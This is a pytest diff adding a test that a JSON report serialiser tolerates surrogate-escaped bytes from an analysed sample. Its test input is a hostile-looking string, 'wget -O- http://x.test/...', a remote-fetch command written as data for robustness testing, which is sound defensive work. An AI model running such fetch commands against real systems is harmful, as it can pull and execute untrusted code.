@@ -68,3 +68,14 @@ def test_schema_rejects_a_malformed_technique():
     document["findings"][0]["technique"] = "resource hijacking"
     with pytest.raises(jsonschema.ValidationError):
         json_report.validate(document)
+
+
+def test_undecodable_bytes_from_a_sample_never_break_the_report():
+    # "\udce2" is what surrogateescape makes of a stray 0xE2 byte in an argv or a payload.
+    hostile = "wget -O- http://x.test/\udce2\udc80"
+    report = sample_report(image=ImageInfo(reference=hostile))
+    text = json_report.dumps(report)
+    text.encode("utf-8")  # strict: must not raise
+    document = json.loads(text)
+    json_report.validate(document)
+    assert document["image"]["reference"] == "wget -O- http://x.test/\\udce2\\udc80"
